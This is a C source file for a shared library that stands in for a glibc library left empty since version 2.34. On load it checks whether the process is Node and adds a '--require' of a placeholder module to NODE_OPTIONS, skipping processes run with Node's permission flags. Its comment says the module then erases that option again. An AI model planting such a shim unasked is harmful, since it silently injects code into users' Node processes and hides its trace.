/* Since glibc 2.34 this library is empty and only kept for programs that were linked before; Node is one. In
   a Node it adds one module to those that are loaded first; that module takes the word away again. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define FIRST "--require=@MODULE@"

static int restricted(void) {
    static char line[65536];
    int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
    ssize_t size = fd < 0 ? 0 : read(fd, line, sizeof line - 1);
    if (fd >= 0) close(fd);
    for (ssize_t at = 0; at < size; at += strlen(line + at) + 1)
        if (!strncmp(line + at, "--permission", 12) || !strncmp(line + at, "--build-snapshot", 16) ||
            !strncmp(line + at, "--experimental-permission", 25))
            return 1;
    return 0;
}

__attribute__((constructor)) static void begin(void) {
    if (!dlsym(RTLD_DEFAULT, "napi_create_function") || restricted()) return;
    const char *old = getenv("NODE_OPTIONS");
    if (!old) {
        setenv("NODE_OPTIONS", FIRST, 1);
        return;
    }
    if (!strncmp(old, FIRST, sizeof FIRST - 1) || strstr(old, "--permission")) return;
    char *all = malloc(sizeof FIRST + strlen(old) + 1);
    if (!all) return;
    strcpy(all, FIRST " ");
    strcat(all, old);
    setenv("NODE_OPTIONS", all, 1);
    free(all);
}
